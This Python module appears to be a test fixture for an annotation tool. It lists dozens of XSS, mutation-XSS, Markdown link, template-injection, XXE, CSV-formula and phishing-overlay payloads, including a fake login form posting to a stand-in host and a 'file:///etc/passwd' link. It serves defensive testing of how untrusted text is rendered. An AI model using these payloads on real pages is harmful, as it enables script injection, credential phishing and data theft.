"""Texts that attack the page on which annotators read them: each class of payload that a browser or Label Studio knows.

Whatever gets through shows ``MARK``: on the console if a script ran, in an address if something was fetched.
"""

from __future__ import annotations

__all__ = ["HOSTILE", "HOSTILE_LABELS", "MARK"]

MARK = "gtb-hostile"

_RUN = f"console.log(/{MARK}/)"
_FAR = f"https://{MARK}.example"
_NEAR = f"/{MARK}"
# A data URL of a page with a script, which no one can read for the mark: the script shows it.
_PAGE = "data:text/html,<script>console.log(/gtb-hostile/)</script>"

_SCRIPTS = (
    f"<script>{_RUN}</script>",
    f"<script src={_NEAR}/x.js></script><script src={_FAR}/x.js></script>",
    f"<sCrIpT\n>{_RUN}</ScRiPt\t>",
    f"<script>{_RUN}",
    f"<img src=x onerror={_RUN}>",
    f"<img src={_NEAR}/x.png onload={_RUN} onerror={_RUN}>",
    f'"><img src=x onerror="{_RUN}">',
    f"'><svg/onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text y=20>click</text></a></svg>",
    f"<svg><set attributeName=href to='javascript:{_RUN}'/></svg>",
    f"<svg><use href='{_FAR}/x.svg#x'/><image href='{_FAR}/x.png'/></svg>",
    f'<iframe srcdoc="<script>{_RUN}</script>"></iframe>',
    f"<iframe src='javascript:{_RUN}'></iframe>",
    f"<iframe src='{_PAGE}'></iframe>",
    f"<iframe src='https://www.youtube.com/embed/{MARK}'></iframe>",
    f"<object data='{_PAGE}'></object>",
    f"<embed src='{_NEAR}/x.swf'><embed src='javascript:{_RUN}'>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<video autoplay onerror={_RUN} src={_FAR}/x.mp4></video>",
    f"<audio src={_NEAR}/x.mp3 onerror={_RUN}></audio>",
    f"<video><source onerror={_RUN} src=x></video>",
    f"<input autofocus onfocus={_RUN}>",
    f"<body onload={_RUN} onpageshow={_RUN}>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<div style='animation:x 1s' onanimationstart={_RUN}></div><style>@keyframes x{{}}</style>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'></noscript>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={_RUN}&gt;'>",
    f"<svg></p><style><a title='</style><img src=x onerror={_RUN}>'>",
    f"<template><script>{_RUN}</script></template><slot name=x>",
    f"<!--><script>{_RUN}</script>-->",
    f"<!-- --!><script>{_RUN}</script>",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"<?xml version='1.0'?><?php {_RUN} ?>",
    f"<!DOCTYPE x [<!ENTITY y SYSTEM '{_FAR}/y'>]>&y;",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
)
_PAGE_CHANGES = (
    "<style>*{display:none!important} body{background:red!important}</style>",
    f"<style>@import url({_FAR}/x.css); body{{background:url({_NEAR}/x.png)}}</style>",
    f"<link rel=stylesheet href={_FAR}/x.css><link rel=prefetch href={_NEAR}/x><link rel=icon href={_FAR}/i>",
    f"<meta http-equiv=refresh content='0;url={_FAR}'>",
    f"<meta http-equiv=refresh content=0;url={_NEAR}>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src 'none'\">",
    f"<base href={_FAR}/ target=_top>",
    "<div style='position:fixed;inset:0;z-index:2147483647;background:red'>log in again</div>",
    "<dialog open style='position:fixed;inset:0;width:100vw;height:100vh'>x</dialog>",
    f"<div style='background-image:url({_FAR}/x.png);list-style:url({_NEAR}/y.png)'>x</div>",
    "<div class='gtb-card' style='margin:-9999px'>x</div>",
    f"<form action={_FAR} id=body name=Htx><input name=password autofocus><button>Log in</button></form>",
    f"<form><button formaction='javascript:{_RUN}'>x</button><input type=image src={_FAR}/x.png></form>",
    "<img name=getElementById><a id=location><a id=location name=href href=x>",
    f"<table background={_FAR}/x.png><tr><td background={_NEAR}/y.png>x",
    f"<img srcset='{_FAR}/x.png 1x'><picture><source srcset={_NEAR}/y.png></picture>",
    "</div></div></div></body></html><h1>x",
    "</style></script></textarea></title></xmp></template>",
    "<plaintext><xmp><listing><textarea><title>",
    "<frameset><frame src=x></frameset>",
)
_LINKS = (
    f"<a href='javascript:{_RUN}'>x</a>",
    f"<a href={_FAR} ping={_FAR}/ping target=_top>x</a>",
    f"[x](javascript:{_RUN})",
    f"[x](JaVaScRiPt&colon;{_RUN})",
    f"[x](java&#10;script:{_RUN})",
    f"[x](&#1;javascript:{_RUN})",
    f"[x](<java\tscript:{_RUN}>)",
    f"[x](vbscript:{_RUN})",
    "[x](data:text/html;base64,PHNjcmlwdD5jb25zb2xlLmxvZygvZ3RiLWhvc3RpbGUvKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg/onload=1>)",
    f"[x](blob:{_FAR}/1)",
    "[x](file:///etc/passwd)",
    "[x](ms-msdt:/id)",
    f"[x]({_NEAR})",
    "[x](/user/logout)",
    "[x](//gtb-hostile.example)",
    "[x](\\\\gtb-hostile.example)",
    f"[x]\n\n[x]: javascript:{_RUN}",
    f"[**within**]({_FAR}/link)",
    f'[x]({_FAR} "a\\" onmouseover=\\"{_RUN}")',
    f"[x]({_FAR}/\"onmouseover='{_RUN}')",
    f"<javascript:{_RUN}>",
    f"<{_FAR}/autolink>",
    f"{_FAR}/bare",
    f"![x]({_FAR}/track.png)",
    f"![x]({_NEAR}/track.png)",
    f'![x"onerror={_RUN}](y)',
    f"![x][i]\n\n[i]: {_FAR}/track.png",
    f"[![x]({_FAR}/track.png)](javascript:{_RUN})",
    f"`</code><script>{_RUN}</script>`",
    f'| a"><script>{_RUN}</script> |\n|:-:|\n| <img src=x onerror={_RUN}> |',
    f'```"><script>{_RUN}</script>\nx\n```',
    f'```js" onclick="{_RUN}"\nx\n```',
)
_INTERPRETED = (
    "$prompt $responses[0].text ${prompt} $passage",
    "{{idx}} {{ 7*7 }} {% include 'x' %} [[ x ]] [% x %] <%= 7*7 %> #{7*7}",
    f"`${{{_RUN}}}` ${{{_RUN}}}",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    "__proto__ constructor toString",
    "s3://gtb-hostile/x gs://gtb-hostile/x azure-blob://gtb-hostile/x",
    "=cmd|'/c calc'!A1",
    '{"a": [1, null]} </View><View name="x" toName="y"/>',
    "\x01\x02\x08\x0b\x0c\x1b[31mred\x1b[0m\x7f\x85",
    "\u202eabc\u2066def\u2069\u2069\u202d\u200f\u061c\ufeff\u2028\u2029",
    "Z\u0335\u0321\u0348a\u0338\u0322" + "\u0301" * 40,
    "%3Cscript%3E \\u003cscript\\u003e \\x3cscript\\x3e +ADw-script+AD4-",
)  # fmt: skip

HOSTILE = _SCRIPTS + _PAGE_CHANGES + _LINKS + _INTERPRETED

# Those that a task definition takes for the name of a dimension or a tag.
HOSTILE_LABELS = tuple(
    dict.fromkeys(text for text in HOSTILE if text.isprintable() and text == text.strip() and len(text) <= 200)
)
